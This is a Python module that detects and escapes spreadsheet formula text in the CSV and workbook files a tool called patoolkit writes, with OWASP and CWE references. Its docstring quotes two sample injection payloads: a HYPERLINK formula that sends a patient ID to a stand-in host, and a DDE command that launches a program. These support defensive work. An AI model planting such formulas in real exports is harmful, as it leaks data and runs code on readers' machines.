"""Text a spreadsheet would evaluate as a formula: one rule for every file patoolkit writes.

A spreadsheet that opens a cell whose text starts with =, +, -, @, tab or
carriage return may evaluate it (CSV or formula injection): a tracker value
`=HYPERLINK("https://x.example/?"&B2, "open")` can send a patient ID away,
`=cmd|' /C calc'!A0` can start a program. What keeps such text text depends on
the file:

- a workbook cell has a type: patoolkit writes text as a typed string cell
  (tracker/edit.py sets the cell's data type; xlsxwriter runs with
  strings_to_formulas off), so no text becomes a formula, whatever it starts with;
- a CSV cell has no type: text that `looks_like_formula` is written with a
  leading apostrophe (`escape_formula`), the mark spreadsheets read as "this is
  text", and inside double quotes, so a comma, quote or line break in it cannot
  start another cell (exports.to_csv).

References:
- OWASP, CSV Injection: https://owasp.org/www-community/attacks/CSV_Injection
  (the six characters, the apostrophe, the quotes).
- CWE-1236, Improper Neutralization of Formula Elements in a CSV File.

Limitations: the apostrophe shows in the cell ('=SUM(A1) is what the reader
sees, as OWASP accepts). Text starting with a space or a look-alike (a
full-width ＝) is not escaped: OWASP does not list them, and LibreOffice 7.4
reads both as text. A number is never escaped (exports.csv_cells says why).
"""

from __future__ import annotations

# OWASP's list: the characters a spreadsheet may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could evaluate this text: it starts with one of FORMULA_STARTS."""
    return text.startswith(FORMULA_STARTS)


def escape_formula(text: str) -> str:
    """The text a CSV cell should carry: a leading apostrophe when it looks like a formula.

    "=SUM(A1)" -> "'=SUM(A1)", "-5" -> "'-5" (this is text; a number is never
    passed here), "a-b" -> "a-b".
    """
    return f"'{text}" if looks_like_formula(text) else text
